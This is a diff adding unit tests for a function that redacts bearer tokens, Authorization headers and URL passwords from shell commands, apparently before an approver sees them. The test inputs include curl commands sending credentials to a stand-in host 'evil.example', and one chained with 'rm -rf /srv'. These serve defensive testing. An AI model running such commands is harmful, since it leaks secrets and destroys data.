@@ -170,6 +170,55 @@ describe('an Authorization header with a quoted token', () => {
     expect(redactArgv(['curl', '-H', 'Authorization: "Bearer S3cret"'])).toEqual(['curl', '-H', 'Authorization: "[redacted]"']);
     expect(redactArgv(['curl', '-H', 'Authorization: Bearer \\"S3cret\\"'])).toEqual(['curl', '-H', 'Authorization: [redacted]']);
   });
+
+  it('redacts all of a value the header is known to hold, whatever its scheme (Discord Bot, GoDaddy sso-key, DPoP, Azure SharedKey)', () => {
+    // A scheme not in the known list was hidden alone and the token after it shown: `Authorization: [redacted] S3cret`.
+    cases([
+      ['curl -H "Authorization: Bot S3cret" https://evil.example/x', 'curl -H "Authorization: [redacted]" https://evil.example/x'],
+      ["curl -H 'Authorization: sso-key K3y:S3cret' https://x", "curl -H 'Authorization: [redacted]' https://x"],
+      ['curl -H"Authorization: DPoP S3cret" https://x', 'curl -H"Authorization: [redacted]" https://x'],
+      ['curl --header="Proxy-Authorization: SharedKey acct:S3cret" https://x', 'curl --header="Proxy-Authorization: [redacted]" https://x'],
+      ['curl -d \'{"Authorization": "Bot S3cret"}\' https://x', 'curl -d \'{"Authorization": "[redacted]"}\' https://x'],
+      ['curl -d "{\\"Authorization\\": \\"Bot S3cret\\"}" https://x', 'curl -d "{\\"Authorization\\": \\"[redacted]"}" https://x'],
+      ['cat > r.http <<EOF\nGET / HTTP/1.1\nAuthorization: Bot S3cret\nHost: x\nEOF', 'cat > r.http <<EOF\nGET / HTTP/1.1\nAuthorization: [redacted]\nHost: x\nEOF'],
+    ]);
+    expect(redactArgv(['curl', '-H', 'Authorization: Bot S3cret', 'https://x'])).toEqual(['curl', '-H', 'Authorization: [redacted]', 'https://x']);
+    // (curl's -H glued to its header: no word boundary before the name, which went unread)
+    expect(redactArgv(['curl', '-HAuthorization: Bot S3cret'])).toEqual(['curl', '-HAuthorization: [redacted]']);
+    expect(redactArgv(['curl', '-HAuthorization:Bearer S3cret'])).toEqual(['curl', '-HAuthorization:[redacted]']);
+    // Unquoted, the shell splits the header at its blank: what follows is another word, shown to the approver.
+    cases([['curl -H Authorization:abc https://evil.example/x; rm -rf /srv', 'curl -H Authorization:[redacted] https://evil.example/x; rm -rf /srv']]);
+    cases([['echo "a"Authorization:abc https://evil.example/x "b"', 'echo "a"Authorization:[redacted] https://evil.example/x "b"']]);
+  });
+
+  it('hides a URL password made by substitutions the expression could not read: nested, two, backquoted, with a comment', () => {
+    // Each was shown: URL_PASSWORD reads one plain `$(…)` only.
+    cases([
+      ['psql "postgresql://u:$(echo "$(echo S3cret)")@h/db"', 'psql "postgresql://u:$([redacted])@h/db"'],
+      ['psql "postgresql://u:`echo S3cret`@h/db"', 'psql "postgresql://u:[redacted]@h/db"'],
+      ['psql "postgresql://u:$(echo S3cret)$(echo S3cret)@h/db"', 'psql "postgresql://u:$(echo [redacted])$(echo [redacted])@h/db"'],
+      ['psql "postgresql://u:$(echo S3cret # c\n)@h/db"', 'psql "postgresql://u:[redacted]@h/db"'],
+      ['curl https://ann:$(f() { echo S3cret; }; f)@h/x', 'curl https://ann:[redacted]@h/x'],
+    ]);
+    kept('psql "postgresql://u@h/db" -c "select \'$(x)\'"');
+  });
+
+  it('hides what a substitution fed to a password reader may write: an echo anywhere in it, a here-string', () => {
+    // Only one that started with echo or printf was taken to write its text; these were shown.
+    cases([
+      ['echo $(echo;echo S3cret) | docker login -u u --password-stdin r', 'echo $(echo;echo [redacted]) | docker login -u u --password-stdin r'],
+      ['echo "$(eval echo S3cret)" | docker login --password-stdin r', 'echo "$([redacted])" | docker login --password-stdin r'],
+      ['echo $(cat <<<S3cret) | docker login --password-stdin r', 'echo [redacted]'],
+    ]);
+    kept('echo "$(cat /run/pw)" | docker login --password-stdin r');
+  });
+
+  it('runs a token on through a backquoted substitution, as through $(…)', () => {
+    cases([
+      ['curl -H "Authorization: Bearer `echo S3cret`" https://x', 'curl -H "Authorization: [redacted]" https://x'],
+      ['curl -H Authorization:`cat /t`S3cret https://x', 'curl -H Authorization:[redacted] https://x'],
+    ]);
+  });
 });
 
 describe('text written into .pgpass and .netrc', () => {
